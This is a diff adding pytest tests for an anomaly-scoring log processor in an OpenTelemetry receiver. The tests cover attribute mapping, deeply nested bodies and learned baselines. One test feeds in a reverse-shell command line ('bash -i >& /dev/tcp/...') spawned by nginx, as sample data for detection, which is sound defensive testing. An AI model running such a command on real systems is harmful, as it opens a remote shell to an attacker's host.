@@ -8,6 +8,7 @@ from typing import Any
 import pytest
 from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsServiceRequest
 
+from core import semconv
 from core.confmap import ConfigError, decode, load_yaml
 from otlp_receiver.component import CreateSettings, LogBatch
 from otlp_receiver.processors.anomaly import factory
@@ -164,6 +165,59 @@ def test_third_party_records_gain_the_design_attributes_and_keep_their_own(proce
     assert found["process.command_line"] == "bash -c id"
     assert found["process.executable.name"] == "bash"
     assert found["process.parent.executable.name"] == "nginx"
-    assert found["process.pid"] == 4242 and found["process.user.id"] == -1
+    assert found["process.pid"] == 4242 and "process.user.id" not in found  # -1 is no uid
     assert "process.command_args" not in found  # Falco gives no argv; a split would be a guess
     assert "anomaly_score" in found and record.body.string_value == falco
+
+
+def test_ecs_attributes_gain_the_user_name_and_keep_their_own(processor) -> None:  # type: ignore[no-untyped-def]
+    batch = exec_batch([])
+    record = batch.logs.resource_logs[0].scope_logs[0].log_records.add()
+    record.attributes.extend(key_values({"process.name": "ssh", "process.executable": "/usr/bin/ssh",
+                                         "process.command_line": "ssh -l u 10.0.0.16", "user.id": "0",
+                                         "user.name": "root", "event.category": ["process"],
+                                         "event.type": ["start"]}))
+    processor.process(batch)
+    found = attributes(record)
+    assert found["process.user.name"] == "root" and found["process.user.id"] == 0
+    assert found["process.executable.name"] == "ssh" and found["process.name"] == "ssh"
+    assert found["process.command_line"] == "ssh -l u 10.0.0.16" and "anomaly_score" in found
+    assert processor._kinds.value(kind="ecs") == 1
+
+
+@pytest.mark.parametrize("processor", ["true"], indirect=True)
+def test_a_body_nested_thousands_deep_does_not_unscore_its_batch(processor) -> None:  # type: ignore[no-untyped-def]
+    # Issue 11: RecursionError from such a body failed the scoring child, and the batch went out unscored.
+    batch = exec_batch([process_exec("bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", 7, 6, parent="nginx")])
+    deep = batch.logs.resource_logs[0].scope_logs[0].log_records.add()
+    deep.body.string_value = '{"a": ' + "[" * 5000 + "]" * 5000 + "}"
+    processor.process(batch)
+    assert "anomaly_score" in attributes(batch.logs.resource_logs[0].scope_logs[0].log_records[0])
+    assert processor._kinds.value(kind="invalid") == 1
+
+
+@pytest.mark.parametrize("processor", ["false", "true"], indirect=True, ids=["in_process", "child_process"])
+def test_baselines_are_described_and_an_acknowledged_event_is_learned_while_running(processor) -> None:  # type: ignore[no-untyped-def]
+    processor.process(exec_batch([process_exec("nginx", "nginx -g daemon off;", 100 + i, 1, parent="systemd")
+                                  for i in range(30)]))
+    hook = process_exec("sh", "sh -c /opt/app/hooks/post-deploy.sh", 500, 100, parent="nginx", path="/bin/sh")
+    first = exec_batch([hook])
+    processor.process(first)
+    stored = attributes(first.logs.resource_logs[0].scope_logs[0].log_records[0])
+    assert stored["anomaly_severity"] == "alert" and stored["process.ancestors"] == ["nginx", "systemd"]
+    [web] = processor.baselines("default")
+    assert (web["workload"], web["state"], web["events_learned"], web["held_back_total"]) == ("web", "detecting", 30, 1)
+    assert web["held_back"][0]["command_line"] == hook["process.command_line"]
+    assert web["thresholds"] == {"warn": 0.5, "alert": 0.75} and web["oldest_pattern"] > 0
+    assert processor.baselines("other-tenant") == []
+
+    # What the query extension sends: the record as stored, without its verdict.
+    processor.acknowledge("default", "web", {key: value for key, value in stored.items()
+                                             if key not in semconv.VERDICT_KEYS} | {"host.name": "web-1"})
+    [web] = processor.baselines("default")
+    assert web["held_back_total"] == 0 and web["events_learned"] == 31
+    again = exec_batch([{**hook, "process.pid": 501}])
+    processor.process(again)
+    assert attributes(again.logs.resource_logs[0].scope_logs[0].log_records[0])["anomaly_severity"] == "none"
+    with pytest.raises(ValueError, match=r"process\.executable\.name"):
+        processor.acknowledge("default", "web", {"process.pid": 1})
